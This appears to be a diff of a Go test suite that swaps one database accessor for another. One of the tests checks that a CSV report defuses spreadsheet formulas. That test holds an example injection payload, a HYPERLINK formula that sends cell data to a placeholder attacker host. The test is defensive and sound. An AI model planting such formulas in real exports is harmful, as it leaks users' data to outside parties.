@@ -295,7 +295,7 @@ func TestReportCSVDefusesFormulas(t *testing.T) {
 	// No rule writes a message that starts with a formula character today;
 	// the report must defuse one all the same.
 	const evil = `=HYPERLINK("http://evil.example/?"&A1,"Click")`
-	if _, err := b.Store.DB().Exec(`UPDATE operation_items SET error_message = $2 WHERE operation_id = $1 AND user_id = 'plain'`, acc.ID, evil); err != nil {
+	if _, err := b.DB.Exec(`UPDATE operation_items SET error_message = $2 WHERE operation_id = $1 AND user_id = 'plain'`, acc.ID, evil); err != nil {
 		t.Fatal(err)
 	}
 	resp := c.Must(200, "GET", "/v1/operations/"+acc.ID+"/report?format=csv", nil)
@@ -361,7 +361,7 @@ func (u userRecord) String() string {
 // userRecords reads every user of a customer straight from Postgres.
 func userRecords(t *testing.T, b *testapp.Bundle, customer string) map[string]userRecord {
 	t.Helper()
-	rows, err := b.Store.DB().Query(`
+	rows, err := b.DB.Query(`
 		SELECT u.id, COALESCE(u.usage_location, ''), COALESCE(string_agg(a.sku_id, ',' ORDER BY a.sku_id), '')
 		FROM users u JOIN customers c ON c.customer_key = u.customer_key
 		LEFT JOIN assignments a ON a.customer_key = u.customer_key AND a.user_id = u.id
